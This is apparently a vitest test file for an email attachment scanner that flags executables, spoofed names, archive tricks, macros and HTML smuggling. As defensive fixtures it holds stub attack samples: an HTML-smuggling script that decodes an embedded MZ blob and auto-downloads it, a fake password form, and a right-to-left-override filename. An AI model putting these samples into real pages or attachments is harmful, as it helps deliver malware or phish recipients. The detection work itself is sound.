import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { attachmentFindings, type AttachmentData } from './attachments.js';
import { buildOle, buildZip } from './testing.js';

function attachment(
  filename: string | null,
  content: Buffer | string,
  contentType = 'application/octet-stream',
): AttachmentData {
  const data = Buffer.isBuffer(content) ? content : Buffer.from(content);
  const h = (a: string) => createHash(a).update(data).digest('hex');
  return {
    filename,
    contentType,
    size: data.length,
    md5: h('md5'),
    sha1: h('sha1'),
    sha256: h('sha256'),
    content: data,
    complete: true,
  };
}

const codes = (a: AttachmentData) =>
  attachmentFindings(a)
    .map((f) => f.code)
    .sort();

describe('attachment names', () => {
  it('flags executables, double extensions, disk images, padded and bidi names', () => {
    expect(codes(attachment('setup.exe', 'MZ'))).toEqual(['attachments.executable']);
    expect(codes(attachment('Invoice_2024.pdf.exe', 'MZ'))).toEqual(['attachments.double-extension']);
    expect(codes(attachment('statement.pdf.iso', 'x'))).toEqual(['attachments.double-extension']);
    expect(codes(attachment('disk.img', 'x'))).toEqual(['attachments.disk-image']);
    expect(codes(attachment('report.pdf                    .js', 'x'))).toEqual([
      'attachments.double-extension',
    ]);
    expect(codes(attachment('photo____________________.scr', 'x'))).toEqual([
      'attachments.executable',
      'attachments.padded-name',
    ]);
    const bidi = attachmentFindings(attachment('invoice\u202Efdp.exe', 'MZ'));
    expect(bidi.map((f) => f.code)).toContain('attachments.bidi-name');
    expect(String(bidi.find((f) => f.code === 'attachments.bidi-name')!.evidence.name)).toContain('[U+202E]');
    expect(codes(attachment('budget.xlsm', 'x'))).toContain('attachments.macro-document');
  });

  it('leaves ordinary documents alone', () => {
    expect(codes(attachment('report.pdf', '%PDF-1.7'))).toEqual([]);
    expect(codes(attachment('photo.v2.jpg', 'x'))).toEqual([]);
    expect(codes(attachment(null, 'plain'))).toEqual([]);
  });

  it('sees an executable under a document name', () => {
    expect(codes(attachment('scan.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])))).toEqual([
      'attachments.disguised-executable',
    ]);
  });
});

describe('archives', () => {
  it('looks inside zips for executables, scripts and double extensions', () => {
    const zip = buildZip([
      { name: 'readme.txt', data: 'hi' },
      { name: 'docs/invoice.pdf.js', data: 'WScript' },
      { name: 'tools/run.bat', data: 'echo' },
    ]);
    const f = attachmentFindings(attachment('invoice.zip', zip));
    expect(f.map((x) => x.code).sort()).toEqual(['attachments.double-extension', 'attachments.executable']);
    expect(f.find((x) => x.code === 'attachments.double-extension')!.reason).toContain(
      'invoice.zip contains docs/invoice.pdf.js',
    );
  });

  it('flags password-protected archives, more when they hide executables', () => {
    expect(codes(attachment('p.zip', buildZip([{ name: 'a.pdf', data: 'x', encrypted: true }])))).toEqual([
      'attachments.encrypted-archive',
    ]);
    expect(codes(attachment('p.zip', buildZip([{ name: 'a.exe', data: 'x', encrypted: true }])))).toContain(
      'attachments.encrypted-archive-executable',
    );
  });

  it('opens nested archives down to the depth limit, and reports the limit', () => {
    let inner = buildZip([{ name: 'payload.exe', data: 'MZ' }]);
    expect(codes(attachment('a.zip', buildZip([{ name: 'b.zip', data: inner }])))).toContain(
      'attachments.executable',
    );
    for (let i = 0; i < 4; i++) inner = buildZip([{ name: `level${i}.zip`, data: inner }]);
    const f = attachmentFindings(attachment('deep.zip', inner));
    expect(f.map((x) => x.code)).toContain('limits.archive-depth');
    expect(f.map((x) => x.code)).not.toContain('attachments.executable');
  });

  it('does not inflate a decompression bomb', () => {
    const bomb = buildZip([{ name: 'inner.zip', data: Buffer.alloc(40 << 20) }]);
    const f = attachmentFindings(attachment('bomb.zip', bomb));
    expect(f.map((x) => x.code)).toContain('limits.archive-bomb');
  });

  it('reports an archive it cannot read, without failing', () => {
    const zip = buildZip([{ name: 'a.exe', data: 'MZ' }]);
    expect(codes(attachment('cut.zip', zip.subarray(0, zip.length - 30)))).toEqual([
      'attachments.archive-unreadable',
    ]);
    expect(codes({ ...attachment('big.zip', zip.subarray(0, 40)), complete: false })).toEqual([
      'attachments.archive-not-inspected',
    ]);
    expect(codes(attachment('x.rar', 'Rar!'))).toEqual(['attachments.archive-not-inspected']);
  });
});

describe('macros', () => {
  it('finds vbaProject.bin in an OOXML document, whatever its name says', () => {
    const docx = buildZip([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'word/document.xml', data: '<w:document/>' },
      { name: 'word/vbaProject.bin', data: Buffer.alloc(64) },
    ]);
    expect(codes(attachment('contract.docx', docx))).toEqual(['attachments.ooxml-macros']);
    const clean = buildZip([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'word/document.xml', data: '<w:document/>' },
    ]);
    expect(codes(attachment('contract.docx', clean))).toEqual([]);
  });

  it('finds VBA storages in a legacy OLE2 document, also inside a zip', () => {
    const doc = buildOle([
      { name: 'WordDocument', type: 2 },
      { name: 'Macros', type: 1 },
      { name: 'VBA', type: 1 },
    ]);
    expect(codes(attachment('order.doc', doc))).toEqual(['attachments.ole-macros']);
    expect(codes(attachment('order.zip', buildZip([{ name: 'order.doc', data: doc }])))).toEqual([
      'attachments.ole-macros',
    ]);
    expect(codes(attachment('locked.docx', buildOle([{ name: 'EncryptedPackage', type: 2 }])))).toEqual([
      'attachments.encrypted-document',
    ]);
  });
});

describe('HTML smuggling', () => {
  const page = (script: string) => `<html><body><script>${script}</script></body></html>`;

  it('flags a page that builds a file from embedded data and saves it', () => {
    const html =
      page(`var b = atob("${'TVqQAAMAAAAEAAAA'.repeat(10)}"); var blob = new Blob([b], {type: 'application/octet-stream'});
      var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'invoice.iso'; a.click();`);
    const f = attachmentFindings(attachment('invoice.html', html, 'text/html'));
    expect(f.map((x) => x.code)).toEqual(['attachments.html-smuggling']);
    expect(f[0]!.evidence.markers).toContain('createObjectURL');
    const legacy = page(`window.navigator.msSaveOrOpenBlob(new Blob([atob(data)]), 'a.exe')`);
    expect(codes(attachment('a.htm', legacy, 'text/html'))).toEqual(['attachments.html-smuggling']);
    const dataUri = `<a href="data:application/octet-stream;base64,TVqQ" download="x.exe">x</a><script>document.links[0].click()</script>`;
    expect(codes(attachment('a.html', dataUri, 'text/html'))).toEqual(['attachments.html-smuggling']);
  });

  it('is weaker on partial patterns and quiet on ordinary HTML', () => {
    expect(codes(attachment('a.html', page('var x = atob(s); document.write(x)'), 'text/html'))).toEqual([]);
    expect(codes(attachment('a.html', page('var b = new Blob([atob(s)]); show(b)'), 'text/html'))).toEqual([
      'attachments.html-smuggling-partial',
    ]);
    expect(
      codes(
        attachment(
          'newsletter.html',
          '<html><body><a href="https://example.com">Read more</a></body></html>',
          'text/html',
        ),
      ),
    ).toEqual([]);
  });

  it('flags a local page asking for a password', () => {
    expect(
      codes(
        attachment(
          'login.html',
          '<form action="https://x.test/p"><input type="password" name="p"></form>',
          'text/html',
        ),
      ),
    ).toEqual(['attachments.html-credential-form']);
  });
});
